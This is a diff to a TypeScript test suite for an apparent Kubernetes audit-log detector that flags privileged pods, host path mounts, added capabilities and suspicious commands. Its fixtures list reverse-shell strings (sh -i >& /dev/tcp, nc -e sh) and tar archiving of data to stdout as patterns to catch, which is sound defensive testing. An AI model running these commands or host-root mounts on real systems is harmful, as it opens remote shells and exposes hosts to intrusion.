@@ -67,6 +67,10 @@ const commands: Readonly<Record<string, readonly string[]>> = {
   'opens a shell outwards': [
     'sh -i >& /dev/tcp/h/1',
     'sh -i >& /dev/udp/h/1',
+    'sh -i >& /tmp/f',
+    'sh -i>& /tmp/f',
+    'bash  -i  >& /tmp/f',
+    'zsh -i >&/tmp/f',
     'nc -e sh h 1',
     'nc h 1 -c sh',
     'ncat h 1 --exec sh',
@@ -152,6 +156,8 @@ const commands: Readonly<Record<string, readonly string[]>> = {
     'tar --create --file=- /data',
     'tar cf /data -',
     'tar --create -f- /data',
+    'tar zcf - /data',
+    'tar -zcf - /data',
   ],
 };
 
@@ -258,6 +264,9 @@ const powers: readonly (readonly [powers: string | undefined, body: unknown])[] 
   ['CRITICAL host directory /', mounted('/proc/1/root')],
   ['HIGH host directory /etc', mounted('/proc/self/root/etc')],
   ['HIGH host directory /proc/11/root', mounted('/proc/11/root')],
+  ['HIGH host directory /etc/var/run', mounted('/etc/var/run')],
+  ['HIGH host directory /etc/proc/1/root', mounted('/etc/proc/1/root')],
+  [nobody, mounted('/var/li')],
   [nobody, mounted('/etcetera')],
   [nobody, mounted('/data/etc')],
   [nobody, mounted('/var/runner')],
@@ -282,7 +291,7 @@ const powers: readonly (readonly [powers: string | undefined, body: unknown])[] 
     secure({ capabilities: { add: ['cap_sys_admin', 'bpf', 'BPF', 'CHOWN'] } }),
   ],
   [nobody, secure({ capabilities: { drop: ['ALL'] } })],
-  [nobody, secure({ capabilities: { add: ['XCAP_BPF'] } })],
+  [nobody, secure({ capabilities: { add: ['XCAP_BPF', 'BCAP_PF'] } })],
   ['CRITICAL container web is a host process', secure({ windowsOptions: { hostProcess: true } })],
   ['HIGH host process', podOf({ securityContext: { windowsOptions: { hostProcess: true } } })],
   [
@@ -468,6 +477,11 @@ describe('rights on the node', () => {
 });
 
 describe('the rights on the node', () => {
+  it('are those of a container without a name, too, which is in no list of names', () => {
+    const body = { spec: { containers: [{ securityContext: { privileged: true } }] } };
+    expect(findingOf({ by: 'eve', does: 'create pods shop/x', body })?.details.containers).toBeUndefined();
+  });
+
   it('are always told in the same order, so that they make the same finding', () => {
     const body = podOf({ hostPID: true, volumes: [{ hostPath: { path: '/etc' } }] });
     expect(findingOf({ by: 'eve', does: 'create pods shop/x', body })?.details.powers).toBe(
@@ -580,6 +594,8 @@ describe('what is changed by hand', () => {
       },
     ],
     [nobody, { by: 'eve', does: 'create pods/ephemeralcontainers shop/x' }],
+    [nobody, { by: 'eve', does: 'patch things/ephemeralcontainers shop/x' }],
+    ['LOW workload-by-hand: eve created Pod shop/x', { by: 'eve', does: 'create pods shop/x', body: podOf(), ...cut }],
     [nobody, { by: 'eve', does: 'patch pods/status shop/x', body: podOf({ hostPID: true }) }],
   ])('and by whom, where: %s', (expected, sample) => {
     expect(told(sample)).toBe(expected);
@@ -614,6 +630,9 @@ describe('what admission let pass and noted', () => {
       noted({ [failure]: '[{"message":"it was cut","policy":"p","binding":"b","validati' }),
     ],
     [nobody, { ...noted({ [violation]: 'x' }), by: 'kube-system/replicaset-controller', does: 'update pods shop/x' }],
+    ['a policy', noted({ [failure]: '[{"mess' })],
+    ['PodSecurity a: x would violate PodSecurity "a": y', noted({ [violation]: 'x would violate PodSecurity "a": y' })],
+    [nobody, { ...noted({ [violation]: 'x' }), code: 403, message: 'quota exceeded' }],
     [nobody, { ...noted({ [violation]: 'x' }), code: 500 }],
     [nobody, { ...noted({ [violation]: 'x' }), ...denied }],
   ])('is told: %s', (expected, sample) => {
